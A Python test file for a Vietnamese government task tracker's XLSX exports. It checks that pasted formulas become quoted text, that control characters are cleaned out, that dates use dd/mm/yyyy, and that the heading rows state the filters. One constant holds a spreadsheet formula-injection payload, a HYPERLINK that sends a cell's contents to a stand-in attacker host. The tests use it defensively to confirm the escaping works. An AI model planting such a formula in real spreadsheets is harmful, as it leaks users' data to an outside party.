"""The XLSX exports read back with openpyxl (issue 15 item 13, issue 16 item 5): text is text, never a
formula; a control character does not break the file; dates are date cells shown dd/mm/yyyy; the rows
above the table state the as-of date and the filters."""

from __future__ import annotations

import io
from datetime import date, datetime

from openpyxl import load_workbook

from tests.conftest import login
from tracker.accounts.models import Role
from tracker.extensions import db
from tracker.reports.document import Document, Table
from tracker.reports.xlsx_renderer import render_xlsx
from tracker.tasks.models import Task

LEAK = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Bấm vào đây")'


def _plan_with_bad_texts(app, factory) -> tuple[int, int, dict[str, int]]:
    """A plan whose tasks carry what users paste: a formula title, a formula result, Word's Shift+Enter.
    Written straight to the rows, as data from before the input checks would be."""
    unit = factory.unit("Phòng Tổ chức cán bộ")
    plan = factory.plan("25/KH-SNV", title="Kế hoạch cải cách hành chính")
    ids = {
        "leak": factory.task(plan, unit, "28/06/2024"),
        "sum": factory.task(plan, unit, "31/03/2024"),
        "vt": factory.task(plan, unit, "Quý IV/2024"),
    }
    with app.app_context():
        db.session.get(Task, ids["leak"]).title = LEAK
        task = db.session.get(Task, ids["sum"])
        task.title, task.result = "Báo cáo số liệu", "=2+2"
        db.session.get(Task, ids["vt"]).title = "Dòng một\x0bdòng hai\x01 @cuối"  # PostgreSQL stores no NUL
        db.session.commit()
    return plan, unit, ids


def _sheet(response):
    assert response.status_code == 200, response.status_code
    assert response.mimetype.endswith("spreadsheetml.sheet")
    return load_workbook(io.BytesIO(response.data)).active


def test_task_export_writes_text_as_text_and_survives_control_characters(client, app, factory):
    plan, unit, _ = _plan_with_bad_texts(app, factory)
    login(client, factory.user(Role.OFFICE))
    ws = _sheet(client.get(f"/tasks/export.xlsx?plan={plan}&unit={unit}&box=open&q=&as_of=01/04/2024&sort=plan"))
    header = [c.value for c in ws[4]]
    title, result = header.index("Nhiệm vụ"), header.index("Kết quả")
    body = list(ws.iter_rows(min_row=5))
    titles = {row[title].value: row for row in body}
    assert "'" + LEAK in titles and titles["'" + LEAK][title].data_type == "s"
    summed = titles["Báo cáo số liệu"][result]
    assert (summed.value, summed.data_type) == ("'=2+2", "s")
    assert "Dòng một\ndòng hai '@cuối" not in titles  # the quote goes only in front
    assert "Dòng một\ndòng hai @cuối" in titles
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


def test_task_export_heading_states_the_as_of_date_and_the_filters(client, app, factory):
    plan, unit, _ = _plan_with_bad_texts(app, factory)
    login(client, factory.user(Role.OFFICE))
    ws = _sheet(
        client.get(
            f"/tasks/export.xlsx?plan={plan}&unit={unit}&box=open&leaves=1&due_from=01/01/2024&due_to=30/06/2024&as_of=01/04/2024"
        )
    )
    top = [ws.cell(r, 1).value for r in (1, 2, 3)]
    assert top[0] == "Danh sách nhiệm vụ, tình trạng tính đến ngày 01/04/2024"
    assert top[1] == "Số liệu tính đến ngày: 01/04/2024"
    assert top[2] == (
        "Bộ lọc: Kế hoạch, văn bản: Kế hoạch số 25/KH-SNV; Đơn vị chủ trì: Phòng Tổ chức cán bộ; "
        "Tình trạng: Chưa hoàn thành; Thời hạn theo văn bản: từ 01/01/2024 đến 30/06/2024; "
        "Chỉ tính: phần việc (không tính nhiệm vụ có phần việc con)"
    )
    unfiltered = _sheet(client.get("/tasks/export.xlsx?as_of=01/04/2024"))
    assert unfiltered.cell(3, 1).value == "Bộ lọc: không lọc (tất cả)"


def test_task_export_dates_are_date_cells_shown_day_month_year(client, app, factory):
    plan, _, ids = _plan_with_bad_texts(app, factory)
    login(client, factory.user(Role.OFFICE))
    ws = _sheet(client.get(f"/tasks/export.xlsx?plan={plan}&sort=plan"))
    header = [c.value for c in ws[4]]
    due = header.index("Thời hạn")
    cells = {row[2].value: row[due] for row in ws.iter_rows(min_row=5)}
    leak = cells["'" + LEAK]
    assert isinstance(leak.value, datetime) and leak.value.date() == date(2024, 6, 28)
    assert leak.is_date and leak.number_format == "dd/mm/yyyy"


def test_plan_list_export_with_the_pages_filters(client, app, factory):
    plan, _, _ = _plan_with_bad_texts(app, factory)
    factory.plan("=1+1/KH", year=2023, title="+Kế hoạch năm trước")
    login(client, factory.user(Role.UNIT_HEAD, factory.unit()))
    page = client.get("/plans?year=2024").get_data(as_text=True)
    assert 'data-testid="plans-export"' in page and "/plans/export.xlsx?year=2024" in page
    ws = _sheet(client.get("/plans/export.xlsx?year=2024&as_of=31/12/2024"))
    assert ws.cell(2, 1).value == "Số liệu tính đến ngày: 31/12/2024"
    assert ws.cell(3, 1).value == "Bộ lọc: Năm: 2024"
    header = [c.value for c in ws[4]]
    rows = [[c for c in row] for row in ws.iter_rows(min_row=5)]
    assert [r[header.index("Số, ký hiệu")].value for r in rows] == ["25/KH-SNV"]
    row = rows[0]
    issued = row[header.index("Ngày ban hành")]
    assert issued.is_date and issued.number_format == "dd/mm/yyyy" and issued.value.date() == date(2024, 1, 15)
    assert row[header.index("Tổng số phần việc")].value == 3
    every = _sheet(client.get("/plans/export.xlsx"))
    numbers = {r[1].value: r for r in every.iter_rows(min_row=5)}
    assert numbers["'=1+1/KH"][1].data_type == "s" and numbers["'=1+1/KH"][4].value == "'+Kế hoạch năm trước"
    assert every.cell(3, 1).value == "Bộ lọc: không lọc (tất cả)"


def test_report_xlsx_quotes_formulas_and_cleans_control_characters():
    table = Table(
        "Bảng 1. =Danh sách\x0b",
        "Quá\x07 hạn",
        ["STT", "Nhiệm vụ", "Thời hạn"],
        [[1, LEAK, date(2024, 6, 30)], [2, "-\ud800x", None]],
        [1, 4, 2],
    )
    doc = Document(
        governing_body="UBND TỈNH",
        office_name="SỞ NỘI VỤ\x1f",
        number_line="Số: /BC-SNV",
        number="/BC-SNV",
        place_date="Bắc Giang, ngày 15 tháng 12 năm 2023",
        kind_title="BÁO CÁO",
        subject="Kết quả\x0bthực hiện",
        body=[table],
        recipients=[],
        signature=[],
        signer_name="",
        appendices=[],
        scope_lines=["Số liệu tính đến ngày: 15/12/2023", "Phạm vi: =kế hoạch"],
    )
    wb = load_workbook(io.BytesIO(render_xlsx(doc)))
    ws = wb["Quá hạn"]
    top = [ws.cell(r, 1).value for r in range(1, 7)]
    assert top == [
        "BÁO CÁO /BC-SNV - SỞ NỘI VỤ",
        "Kết quả thực hiện",
        "Bắc Giang, ngày 15 tháng 12 năm 2023",
        "Số liệu tính đến ngày: 15/12/2023",
        "Phạm vi: =kế hoạch",
        "Bảng 1. =Danh sách ",  # a Shift+Enter in a one-line cell: a space
    ]
    cells = {c.value: c for row in ws.iter_rows(min_row=8) for c in row if c.value is not None}
    assert cells["'" + LEAK].data_type == "s" and cells["'-x"].data_type == "s"
    dated = next(c for c in cells.values() if isinstance(c.value, datetime))
    assert dated.number_format == "dd/mm/yyyy"
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
